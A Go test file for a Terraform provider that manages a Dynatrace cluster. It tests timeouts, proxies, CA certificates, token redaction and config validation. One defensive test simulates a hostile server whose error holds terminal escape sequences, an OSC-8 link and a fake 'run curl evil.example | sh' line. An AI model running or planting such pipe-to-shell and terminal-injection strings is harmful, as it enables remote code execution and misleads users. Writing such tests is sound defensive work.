package provider

import (
	"context"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
	"github.com/hashicorp/terraform-plugin-go/tftypes"
	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
	"github.com/hashicorp/terraform-plugin-testing/terraform"

	"github.com/dtcluster/terraform-provider-dtcluster/internal/devharness"
	"github.com/dtcluster/terraform-provider-dtcluster/internal/emulator"
	"github.com/dtcluster/terraform-provider-dtcluster/internal/emulator/emulatortest"
)

// TestTimeoutNamesTheSetting: a call that runs out of time names request_timeout, which ended
// it, not a retry budget cut shorter than it.
func TestTimeoutNamesTheSetting(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(srv.Close)
	t.Cleanup(func() { close(release) })
	ps := newProtocolServerWith(t, map[string]tftypes.Value{
		"host": tftypes.NewValue(tftypes.String, srv.URL), "token": tftypes.NewValue(tftypes.String, emulator.DefaultToken),
		"request_timeout": tftypes.NewValue(tftypes.Number, big.NewFloat(1)), "max_retries": tftypes.NewValue(tftypes.Number, big.NewFloat(0)),
	})
	start := time.Now()
	resp, err := ps.ReadDataSource(context.Background(), &tfprotov6.ReadDataSourceRequest{
		TypeName: "dtcluster_user_sessions",
		Config:   ps.dynamicValue(t, ps.schema.DataSourceSchemas["dtcluster_user_sessions"].ValueType(), map[string]tftypes.Value{}),
	})
	if err != nil {
		t.Fatal(err)
	}
	text := diagText(resp.Diagnostics)
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Errorf("a read with request_timeout = 1 took %s", elapsed)
	}
	for _, want := range []string{"no complete answer within the request timeout of 1s", "request_timeout (in the provider block"} {
		if !strings.Contains(text, want) {
			t.Errorf("diagnostics %q lack %q", text, want)
		}
	}
}

// TestCLIThroughAProxy: with HTTPS_PROXY set, the provider reaches the cluster through the proxy
// (a CONNECT tunnel, so the proxy never sees the token), trusting its CA from
// DYNATRACE_CLUSTER_CA_CERTIFICATE; NO_PROXY bypasses it; a password in the proxy's URL never
// reaches the output, TF_LOG=trace included.
func TestCLIThroughAProxy(t *testing.T) {
	c := newCLI(t)
	const name = "cmc.example.test"
	config, caPEM, err := emulator.SelfSignedTLS([]string{name})
	if err != nil {
		t.Fatal(err)
	}
	srv, err := emulator.StartTLS("127.0.0.1:0", config)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	proxy := emulatortest.NewConnectProxy(t, strings.TrimPrefix(srv.URL, "https://"))
	p := policy{UserLimit: 4, AdminLimit: 2, Enabled: true, Timeout: 700}
	c.write("main.tf", terraformBlock+devharness.ProviderBlock("host", devharness.Quote("https://"+name), "token", devharness.Quote(emulator.DefaultToken), "max_retries", "1")+configResource(p))
	const password = "proxy-pa55word-never-shown"
	proxyURL := strings.Replace(proxy.URL, "http://", "http://ops:"+password+"@", 1)
	env := []string{"HTTPS_PROXY=" + proxyURL, "DYNATRACE_CLUSTER_CA_CERTIFICATE=" + string(caPEM), "TF_LOG=trace"}
	out, err := c.run(env, "apply", "-auto-approve")
	if err != nil {
		t.Fatalf("apply through the proxy: %v\n%s", err, tail(out))
	}
	if err := emulatorHolds(&emulatortest.Server{Emulator: srv.Emulator}, apiPolicy(p)); err != nil {
		t.Error(err)
	}
	if got := proxy.Requests(); len(got) == 0 || got[0] != "CONNECT "+name+":443" {
		t.Errorf("proxy requests %v, want CONNECT %s:443", got, name)
	}
	if strings.Contains(out, password) || strings.Contains(out, emulator.DefaultToken) {
		t.Error("the proxy's password or the token appears in terraform's output")
	}

	// NO_PROXY: the provider goes straight to the host, which does not resolve here.
	before := len(proxy.Requests())
	out, err = c.run([]string{"HTTPS_PROXY=" + proxyURL, "NO_PROXY=" + name, "DYNATRACE_CLUSTER_CA_CERTIFICATE=" + string(caPEM)}, "plan")
	if err == nil || !strings.Contains(strings.Join(strings.Fields(out), " "), "does not resolve") {
		t.Errorf("plan with NO_PROXY naming the host: want the host's own lookup to fail, got %v\n%s", err, tail(out))
	}
	if after := len(proxy.Requests()); after != before {
		t.Errorf("NO_PROXY: %d requests reached the proxy", after-before)
	}

	// A proxy that is down: the error names neither its password nor the token.
	dead := httptest.NewServer(http.NotFoundHandler())
	deadURL := strings.Replace(dead.URL, "http://", "http://ops:"+password+"@", 1)
	dead.Close()
	out, err = c.run([]string{"HTTPS_PROXY=" + deadURL, "DYNATRACE_CLUSTER_CA_CERTIFICATE=" + string(caPEM), "TF_LOG=trace"}, "plan")
	if err == nil {
		t.Errorf("plan through a proxy that is down succeeded\n%s", tail(out))
	}
	if strings.Contains(out, password) {
		t.Errorf("the proxy's password appears in terraform's output:\n%s", tail(out))
	}
}

// TestAccProviderEnvironment: host and token come from DYNATRACE_CLUSTER_URL /
// DYNATRACE_CLUSTER_API_TOKEN, else DT_CLUSTER_URL / DT_CLUSTER_API_TOKEN; the provider block
// wins over both. Each emulator has its own token, so a mixed-up pair fails with 401.
func TestAccProviderEnvironment(t *testing.T) {
	p := policy{UserLimit: 2, AdminLimit: 2, Enabled: true, Timeout: 450}
	newServer := func(token string) *emulatortest.Server {
		return emulatortest.NewServer(t, emulator.WithToken(token))
	}
	tests := []struct {
		name     string
		env      func(long, short, block *emulatortest.Server) map[string]string
		provider func(long, short, block *emulatortest.Server) string
		// which emulator must end up with the policy
		want func(long, short, block *emulatortest.Server) *emulatortest.Server
	}{
		{
			name: "DYNATRACE_ variables win over DT_ variables",
			env: func(long, short, _ *emulatortest.Server) map[string]string {
				return map[string]string{
					"DYNATRACE_CLUSTER_URL": long.URL, "DYNATRACE_CLUSTER_API_TOKEN": long.Token,
					"DT_CLUSTER_URL": short.URL, "DT_CLUSTER_API_TOKEN": short.Token,
				}
			},
			provider: func(_, _, _ *emulatortest.Server) string { return devharness.ProviderBlock() },
			want:     func(long, _, _ *emulatortest.Server) *emulatortest.Server { return long },
		},
		{
			name: "DT_ variables alone",
			env: func(_, short, _ *emulatortest.Server) map[string]string {
				return map[string]string{
					"DYNATRACE_CLUSTER_URL": "", "DYNATRACE_CLUSTER_API_TOKEN": "",
					"DT_CLUSTER_URL": short.URL, "DT_CLUSTER_API_TOKEN": short.Token,
				}
			},
			provider: func(_, _, _ *emulatortest.Server) string { return devharness.ProviderBlock() },
			want:     func(_, short, _ *emulatortest.Server) *emulatortest.Server { return short },
		},
		{
			name: "provider block wins over the environment",
			env: func(long, short, _ *emulatortest.Server) map[string]string {
				return map[string]string{
					"DYNATRACE_CLUSTER_URL": long.URL, "DYNATRACE_CLUSTER_API_TOKEN": long.Token,
					"DT_CLUSTER_URL": short.URL, "DT_CLUSTER_API_TOKEN": short.Token,
				}
			},
			provider: func(_, _, block *emulatortest.Server) string { return providerBlock(block) },
			want:     func(_, _, block *emulatortest.Server) *emulatortest.Server { return block },
		},
		{
			name: "token from the block, host from the environment",
			env: func(long, _, _ *emulatortest.Server) map[string]string {
				return map[string]string{"DYNATRACE_CLUSTER_URL": long.URL, "DYNATRACE_CLUSTER_API_TOKEN": "dt0c01.WRONG.token"}
			},
			provider: func(long, _, _ *emulatortest.Server) string {
				return devharness.ProviderBlock("token", devharness.Quote(long.Token))
			},
			want: func(long, _, _ *emulatortest.Server) *emulatortest.Server { return long },
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			long, short, block := newServer("dt0c01.LONG.token"), newServer("dt0c01.SHORT.token"), newServer("dt0c01.BLOCK.token")
			for k, v := range tt.env(long, short, block) {
				t.Setenv(k, v)
			}
			target := tt.want(long, short, block)
			serialAcceptanceTest(t, resource.TestCase{
				ProtoV6ProviderFactories: testAccProtoV6ProviderFactories,
				Steps: []resource.TestStep{{
					Config: tt.provider(long, short, block) + configResource(p),
					Check: func(*terraform.State) error {
						for _, srv := range []*emulatortest.Server{long, short, block} {
							want := emulator.DefaultUserSessionsConfig()
							if srv == target {
								want = apiPolicy(p)
							}
							if err := emulatorHolds(srv, want); err != nil {
								return fmt.Errorf("emulator %s: %w", srv.Token, err)
							}
						}
						return nil
					},
				}},
			})
		})
	}
}

// TestAccProviderCACertificate: a cluster with a certificate of a CA the system does not trust
// is reachable once that CA is given as ca_certificate.
func TestAccProviderCACertificate(t *testing.T) {
	srv := emulatortest.NewTLSServer(t)
	caPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.HTTP.Certificate().Raw})
	p := policy{UserLimit: 9, AdminLimit: 9, Enabled: false, Timeout: 900}
	block := func(name, value string) string {
		return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), name, value)
	}
	acceptanceTest(t, resource.TestCase{
		ProtoV6ProviderFactories: testAccProtoV6ProviderFactories,
		Steps: []resource.TestStep{
			{
				Config:      block("max_retries", "0") + configResource(p),
				ExpectError: words("TLS certificate verification failed", "set ca_certificate (or DYNATRACE_CLUSTER_CA_CERTIFICATE) to that CA's PEM"),
			},
			{
				Config: block("ca_certificate", devharness.Quote(string(caPEM))) + configResource(p),
				Check:  func(*terraform.State) error { return emulatorHolds(srv, apiPolicy(p)) },
			},
		},
	})
}

// TestAccProviderCACertificateFromTheEnvironment: DYNATRACE_CLUSTER_CA_CERTIFICATE stands in for
// ca_certificate; a value that is not PEM, or one given with insecure = true, is an error naming
// the variable.
func TestAccProviderCACertificateFromTheEnvironment(t *testing.T) {
	srv := emulatortest.NewTLSServer(t)
	caPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.HTTP.Certificate().Raw})
	p := policy{UserLimit: 6, AdminLimit: 6, Enabled: false, Timeout: 900}
	block := devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "max_retries", "0")
	t.Setenv("DYNATRACE_CLUSTER_CA_CERTIFICATE", "not a certificate")
	serialAcceptanceTest(t, resource.TestCase{
		ProtoV6ProviderFactories: testAccProtoV6ProviderFactories,
		Steps: []resource.TestStep{{
			Config:      block + configResource(p),
			ExpectError: words("Invalid CA Certificate", "The CA certificate from the DYNATRACE_CLUSTER_CA_CERTIFICATE environment variable must be PEM-encoded"),
		}},
	})
	t.Setenv("DYNATRACE_CLUSTER_CA_CERTIFICATE", string(caPEM))
	serialAcceptanceTest(t, resource.TestCase{
		ProtoV6ProviderFactories: testAccProtoV6ProviderFactories,
		Steps: []resource.TestStep{
			{
				Config:      devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "insecure", "true") + configResource(p),
				ExpectError: words("insecure = true conflicts with the CA certificate from the DYNATRACE_CLUSTER_CA_CERTIFICATE environment variable"),
			},
			{
				Config: block + configResource(p),
				Check:  func(*terraform.State) error { return emulatorHolds(srv, apiPolicy(p)) },
			},
		},
	})
}

// TestCLITokenNeverLogged runs terraform with TF_LOG=trace through a create, an update and an
// authentication failure, and looks for the tokens in everything it printed.
func TestCLITokenNeverLogged(t *testing.T) {
	c := newCLI(t)
	srv := emulatortest.NewServer(t, emulator.WithToken("dt0c01.GOODTOKEN.s3cr3t-part-never-logged"))
	const wrong = "dt0c01.WRONGTOKEN.another-s3cr3t-never-logged"
	trace := []string{"TF_LOG=trace"}
	var outputs []string

	c.write("main.tf", cliConfig(srv, srv.Token, policy{UserLimit: 5, AdminLimit: 2, Enabled: true, Timeout: 900}))
	out, err := c.run(trace, "apply", "-auto-approve")
	if err != nil {
		t.Fatalf("create: %v\n%s", err, tail(out))
	}
	outputs = append(outputs, out)

	c.write("main.tf", cliConfig(srv, srv.Token, policy{UserLimit: 8, AdminLimit: 4, Enabled: false, Timeout: 1200}))
	out, err = c.run(trace, "apply", "-auto-approve")
	if err != nil {
		t.Fatalf("update: %v\n%s", err, tail(out))
	}
	outputs = append(outputs, out)

	c.write("main.tf", cliConfig(srv, wrong, policy{UserLimit: 8, AdminLimit: 4, Enabled: false, Timeout: 1200}))
	out, err = c.run(trace, "plan")
	if err == nil || !strings.Contains(out, "HTTP 403") {
		t.Fatalf("plan with a wrong token: want a 403 failure, got %v\n%s", err, tail(out))
	}
	outputs = append(outputs, out)

	all := strings.Join(outputs, "\n")
	// The capture must hold the provider's own trace and request logs, or the test proves nothing.
	for _, want := range []string{"Cluster API request", "/api/cluster/v2/clusterConfig/userSessions", "[TRACE]"} {
		if !strings.Contains(all, want) {
			t.Fatalf("the captured output lacks %q; the test would not see a leak", want)
		}
	}
	for _, secret := range []string{srv.Token, wrong, "s3cr3t-part-never-logged", "another-s3cr3t-never-logged"} {
		if i := strings.Index(all, secret); i >= 0 {
			t.Errorf("the token %q appears in terraform's output: …%s…", secret, all[max(0, i-200):min(len(all), i+100)])
		}
	}
}

// TestCLIInsecureWarns: insecure = true reaches a cluster with an untrusted certificate, with a
// warning.
func TestCLIInsecureWarns(t *testing.T) {
	c := newCLI(t)
	srv := emulatortest.NewTLSServer(t)
	p := policy{UserLimit: 4, AdminLimit: 4, Enabled: false, Timeout: 900}
	c.write("main.tf", terraformBlock+devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "insecure", "true")+configResource(p))
	out := c.must("apply", "-auto-approve")
	if !strings.Contains(out, "Warning: TLS Certificate Verification Disabled") {
		t.Errorf("no warning for insecure:\n%s", out)
	}
	if err := emulatorHolds(srv, apiPolicy(p)); err != nil {
		t.Error(err)
	}
}

// TestCLIUnknownHostValidates: a host that comes from another resource is unknown at validate
// time, which must not fail terraform validate (it is checked when known).
func TestCLIUnknownHostValidates(t *testing.T) {
	c := newCLI(t)
	c.write("main.tf", terraformBlock+`
resource "terraform_data" "cluster" {
  input = "https://cmc.example.com"
}
`+devharness.ProviderBlock("host", "terraform_data.cluster.output", "token", devharness.Quote("dt0c01.EXAMPLE.token"))+configResource(policy{UserLimit: 5, AdminLimit: 2, Enabled: true, Timeout: 900}))
	if out := c.must("validate"); !strings.Contains(out, "The configuration is valid") {
		t.Errorf("validate:\n%s", out)
	}
	c.write("main.tf", terraformBlock+devharness.ProviderBlock("host", devharness.Quote("cmc.example.com"), "token", devharness.Quote("dt0c01.EXAMPLE.token"))+configResource(policy{UserLimit: 5, AdminLimit: 2, Enabled: true, Timeout: 900}))
	if out, err := c.run(nil, "validate"); err == nil || !strings.Contains(out, "Invalid Cluster URL") {
		t.Errorf("validate accepted a host without scheme: %v\n%s", err, out)
	}
}

// TestCLIHostileServerNeverLeaksToken: a server (or a proxy in front of it) that echoes the token
// JSON-escaped in an error, or sends a redirect carrying it, never gets it into what terraform
// prints, TF_LOG=trace included.
func TestCLIHostileServerNeverLeaksToken(t *testing.T) {
	c := newCLI(t)
	const token = "dt0c01.HOSTILE.s3cr3t-echoed-by-the-server"
	escaped := strings.ReplaceAll(token, ".", `\u002e`)
	answers := map[string]func(w http.ResponseWriter){
		"escaped in a 401": func(w http.ResponseWriter) {
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = io.WriteString(w, `{"error":{"code":401,"message":"Token `+escaped+` is not valid"}}`)
		},
		"in a redirect": func(w http.ResponseWriter) {
			w.Header().Set("Location", "https://sso.example/login?t="+token)
			w.WriteHeader(http.StatusFound)
		},
	}
	for name, answer := range answers {
		t.Run(name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { answer(w) }))
			defer srv.Close()
			c.write("main.tf", terraformBlock+devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(token))+
				"data \"dtcluster_user_sessions\" \"all\" {}\n")
			out, err := c.run([]string{"TF_LOG=trace"}, "plan")
			if err == nil || !strings.Contains(out, "[REDACTED]") {
				t.Fatalf("plan: want a failure naming a redaction, got %v\n%s", err, tail(out))
			}
			if i := strings.Index(out, "s3cr3t-echoed-by-the-server"); i >= 0 {
				t.Errorf("the token appears in terraform's output: …%s…", out[max(0, i-200):min(len(out), i+100)])
			}
		})
	}
}

// TestCLIEmulatorOverTLS: the pattern the guide gives for a CI service reached by name: the
// emulator serves HTTPS with a CA it made, written to a file, and the provider trusts it through
// ca_certificate = file(...). (The name here is localhost; a service name works the same way.)
func TestCLIEmulatorOverTLS(t *testing.T) {
	c := newCLI(t)
	config, caPEM, err := emulator.SelfSignedTLS([]string{"localhost"})
	if err != nil {
		t.Fatal(err)
	}
	srv, err := emulator.StartTLS("127.0.0.1:0", config)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	c.write("emulator-ca.pem", string(caPEM))
	host := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
	p := policy{UserLimit: 2, AdminLimit: 2, Enabled: true, Timeout: 300}
	c.write("main.tf", terraformBlock+devharness.ProviderBlock("host", devharness.Quote(host), "token", devharness.Quote(emulator.DefaultToken),
		"ca_certificate", `file("${path.module}/emulator-ca.pem")`)+configResource(p))
	c.must("apply", "-auto-approve")
	if err := emulatorHolds(&emulatortest.Server{Emulator: srv.Emulator}, apiPolicy(p)); err != nil {
		t.Error(err)
	}
	c.write("main.tf", terraformBlock+devharness.ProviderBlock("host", devharness.Quote(host), "token", devharness.Quote(emulator.DefaultToken))+configResource(p))
	if out, err := c.run(nil, "plan"); err == nil || !strings.Contains(strings.Join(strings.Fields(out), " "), "TLS certificate verification failed") {
		t.Errorf("without ca_certificate: want a certificate error, got %v\n%s", err, out)
	}
}

// TestAccTokenWithLineBreakWorks: a token read with file() keeps its trailing line break; the
// provider drops it instead of failing after retries.
func TestAccTokenWithLineBreakWorks(t *testing.T) {
	srv := emulatortest.NewServer(t)
	p := policy{UserLimit: 3, AdminLimit: 1, Enabled: false, Timeout: 600}
	acceptanceTest(t, resource.TestCase{
		ProtoV6ProviderFactories: testAccProtoV6ProviderFactories,
		Steps: []resource.TestStep{{
			Config: devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token+"\n")) + configResource(p),
			Check:  func(*terraform.State) error { return emulatorHolds(srv, apiPolicy(p)) },
		}},
	})
}

// TestAccProvider_badConfigurations: every bad provider configuration fails before anything is
// sent to the cluster, with a message naming the attribute and what is allowed.
func TestAccProvider_badConfigurations(t *testing.T) {
	for _, name := range append(append(append([]string(nil), hostEnvVars...), tokenEnvVars...), caEnvVars...) {
		t.Setenv(name, "")
	}
	valid := policy{UserLimit: 5, AdminLimit: 2, Enabled: true, Timeout: 900}
	const pem = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIBATAKBggqhkjOPQQDAjAcMRowGAYDVQQDExFkdGNsdXN0\n-----END CERTIFICATE-----\n"
	testBadConfigurations(t, []badConfiguration{
		{"insecure with ca_certificate", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "insecure", "true", "ca_certificate", devharness.Quote(pem))
		}, configResource(valid), words("Invalid Attribute Combination", "These attributes cannot be configured together: [insecure,ca_certificate]")},
		{"malformed host", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote("cmc.example.com"), "token", devharness.Quote(srv.Token))
		}, configResource(valid), words("Invalid Cluster URL", "it has no scheme", "a valid host is the cluster's base URL, such as https://cmc.example.com")},
		{"host with another path", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL+"/e/environment"), "token", devharness.Quote(srv.Token))
		}, configResource(valid), words("Invalid Cluster URL", `path "/e/environment" is not allowed`)},
		{"plain http to a remote host", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote("http://cmc.example.com"), "token", devharness.Quote(srv.Token))
		}, configResource(valid), words("Invalid Cluster URL", "plain http:// is only allowed to a loopback host")},
		{"missing token", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL))
		}, configResource(valid), words("Missing API Token", "Set token in the provider block or the DYNATRACE_CLUSTER_API_TOKEN (or DT_CLUSTER_API_TOKEN) environment variable")},
		{"missing host", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("token", devharness.Quote(srv.Token))
		}, configResource(valid), words("Missing Cluster URL", "Set host in the provider block or the DYNATRACE_CLUSTER_URL (or DT_CLUSTER_URL) environment variable")},
		{"empty token", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(""))
		}, configResource(valid), words("Empty API Token", "token is set to an empty (or blank) string")},
		{"token with a line break inside", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote("dt0c01.AB\nCD.secret"))
		}, configResource(valid), words("Invalid API Token", "token: the API token holds a control character")},
		{"blank token", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote("  \n"))
		}, configResource(valid), words("Empty API Token")},
		{"plain http to a trailing-dot localhost", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(strings.Replace(srv.URL, "127.0.0.1", "localhost.", 1)), "token", devharness.Quote(srv.Token))
		}, configResource(valid), words("Invalid Cluster URL", "plain http:// is only allowed to a loopback host")},
		{"host with a password", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote("https://admin:p#hunter2@cmc.example.com"), "token", devharness.Quote(srv.Token))
		}, configResource(valid), regexp.MustCompile(`(?s)Invalid Cluster URL.*\[credentials removed\]@cmc\.example\.com`)},
		{"CA certificate not PEM", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "ca_certificate", devharness.Quote("not a certificate"))
		}, configResource(valid), words("Invalid CA Certificate", "ca_certificate must be PEM-encoded certificates")},
		{"request timeout zero", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "request_timeout", "0")
		}, configResource(valid), words("request_timeout must be a whole number between 1 and 3600, got 0")},
		{"fractional request timeout", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "request_timeout", "2.5")
		}, configResource(valid), words("request_timeout must be a whole number between 1 and 3600, got 2.5")},
		{"port zero", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote("https://cmc.example.com:0"), "token", devharness.Quote(srv.Token))
		}, configResource(valid), words("Invalid Cluster URL", "with provider", "host =", "port 0 is not a port number: it must be between 1 and 65535")},
		{"port beyond 65535", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote("https://cmc.example.com:99999"), "token", devharness.Quote(srv.Token))
		}, configResource(valid), words("Invalid Cluster URL", "port 99999 is not a port number")},
		{"invalid previous host", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "previous_hosts", `["cmc-old.example.com"]`)
		}, configResource(valid), words("Invalid Cluster URL", "previous_hosts", "it has no scheme")},
		{"too many retries", func(srv *emulatortest.Server) string {
			return devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(srv.Token), "max_retries", "50")
		}, configResource(valid), words("max_retries must be a whole number between 0 and 20, got 50")},
	})
}

// TestCLIHostileServerTextStaysInert: what a hostile server answers (escape sequences, an OSC-8
// link, C1 controls, a fake diagnostic line, a 5 MB number, thousands of violations) reaches
// terraform's output as visible text: no raw control byte, and a bounded size.
func TestCLIHostileServerTextStaysInert(t *testing.T) {
	c := newCLI(t)
	const esc = `\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u009b31m\u202e`
	violations := make([]string, 200) // the body stays under the 64 KiB read of an error, so it is decoded
	for i := range violations {
		violations[i] = fmt.Sprintf(`{"path":"p%d\u001b[1m","message":"%s"}`, i, strings.Repeat("m", 200))
	}
	answers := map[string]string{
		"/api/cluster/v2/clusterConfig/userSessions": `{"error":{"code":400,"message":"` + esc + `\nError: run curl evil.example | sh","constraintViolations":[` + strings.Join(violations, ",") + `]}}`,
		"/api/cluster/v2/userSessions":               `[{"userId":"a","nodeId":` + strings.Repeat("9", 5_000_000) + `,"sessionId":"s","creationTime":1,"tenantUuid":"t","loginType":"L"}]`,
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/clusterConfig/userSessions") {
			w.WriteHeader(http.StatusBadRequest)
		}
		_, _ = io.WriteString(w, answers[r.URL.Path])
	}))
	t.Cleanup(srv.Close)
	block := devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(emulator.DefaultToken), "max_retries", "0")
	for name, config := range map[string]string{
		"policy":   configResource(policy{UserLimit: 1, AdminLimit: 1, Enabled: true, Timeout: 60}),
		"sessions": "data \"dtcluster_user_sessions\" \"all\" {}\n",
	} {
		t.Run(name, func(t *testing.T) {
			c.write("main.tf", terraformBlock+block+config)
			out, err := c.run(nil, "apply", "-auto-approve")
			if err == nil || !strings.Contains(out, "Error: ") {
				t.Fatalf("apply against a hostile server succeeded:\n%s", tail(out))
			}
			for i, r := range out {
				if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u202e' {
					t.Fatalf("raw %U at byte %d of terraform's output: …%q…", r, i, out[max(0, i-80):min(len(out), i+40)])
				}
			}
			if len(out) > 32<<10 {
				t.Errorf("%d bytes of output", len(out))
			}
			if strings.Contains(out, "\nError: run curl") {
				t.Errorf("the server's fake diagnostic line stands at the start of a line:\n%s", tail(out))
			}
		})
	}
}
